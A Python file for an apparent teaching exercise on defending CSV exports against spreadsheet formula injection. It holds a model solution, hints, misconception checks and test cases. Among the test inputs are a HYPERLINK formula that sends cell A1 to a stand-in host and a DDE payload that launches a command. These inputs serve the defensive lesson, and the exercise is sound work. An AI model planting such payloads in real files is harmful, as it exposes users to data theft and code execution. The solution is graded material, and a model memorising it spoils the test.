"""The task of lab 07 that makes a cell safe for a spreadsheet, whoever wrote the text in it."""

from faultlab.analysis.fmea import safe_cell
from faultlab.classroom.answers.kinds import Function, Misconception
from faultlab.classroom.answers.sandbox import Case

_SIGNS = ("=", "+", "-", "@", "\t", "\r")


def safe(value):
    """A value as a CSV cell that no spreadsheet takes for a formula."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    text = value.lstrip("'")
    if text != "" and text[0] in "=+-@\t\r":
        return "'" + value
    return value


def _cells(draw):
    host = draw.choice(["example.org", "example.com", "example.net"])
    hostile = [
        f'=HYPERLINK("http://{host}?"&A1,"help")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
        "''@SUM(1,1)",
        "=",
    ]
    harmless = [
        "loses orders",
        "",
        "a = b",
        "mail@shop",
        "'quoted'",
        "'",
        " spaced",
        "é=1",
        draw.integer(1, 10),
        -draw.integer(2, 9),
        0,
        -0.5,
        None,
    ]
    return [Case(f"the cell {value!r}", (value,)) for value in draw.shuffled(hostile + harmless)]


def _only_equals(value):
    return safe_cell(value) if not isinstance(value, str) or value.lstrip("'").startswith("=") else value


def _signs_alone(value):
    if isinstance(value, str) and value.lstrip("'").startswith(("\t", "\r")):
        return value
    return safe_cell(value)


def _anywhere(value):
    if isinstance(value, str) and any(sign in value for sign in _SIGNS):
        return "'" + value
    return safe_cell(value)


def _taken_away(value):
    return value.lstrip("=+-@\t\r'") if isinstance(value, str) else safe_cell(value)


def _numbers_too(value):
    return "" if value is None else safe_cell(str(value))


def _no_second_apostrophe(value):
    return value if isinstance(value, str) and value.startswith("'") else safe_cell(value)


safe_cell_function = Function(
    name="safe_cell_function",
    title="A cell that isn't a formula",
    question=(
        "You export a worksheet as CSV, with text written by other people. Opened in a spreadsheet, a text that "
        "begins with =, +, -, @, a tab or a carriage return can run as a formula. Write safe(value). Such a text "
        "gets an apostrophe in front. So does a text with apostrophes before such a beginning, so that a reader "
        "can take exactly one away. None becomes an empty text. Everything else stays as it is, numbers included."
    ),
    points=2,
    reference=safe_cell,
    solution=safe,
    cases=_cells,
    hints=(
        "Three kinds of value come in: None, a text, a number. Treat them one after the other.",
        'text.lstrip("\'") looks past apostrophes; text[0] is the first character, if the text is not empty.',
    ),
    misconceptions=(
        Misconception(
            "only the equals sign",
            _only_equals,
            "A formula can begin with +, -, @, a tab or a carriage return as well.",
        ),
        Misconception(
            "what can't be seen is harmless",
            _signs_alone,
            "A tab or a carriage return in front is dropped by some spreadsheets, and the formula behind it runs.",
        ),
        Misconception(
            "a sign anywhere in the text",
            _anywhere,
            "Only the beginning counts. An address or 'a = b' is harmless, and should stay as it was.",
        ),
        Misconception(
            "takes the signs away",
            _taken_away,
            "That changes what people wrote. An apostrophe in front keeps what they wrote, and makes the cell text.",
        ),
        Misconception(
            "numbers too",
            _numbers_too,
            "A number isn't a text: -3 has to stay a number, or nobody can add it up.",
        ),
        Misconception(
            "apostrophes left alone",
            _no_second_apostrophe,
            "A text that has an apostrophe before the sign gets another. Otherwise the reader takes away the one "
            "that belonged to the text.",
        ),
    ),
)
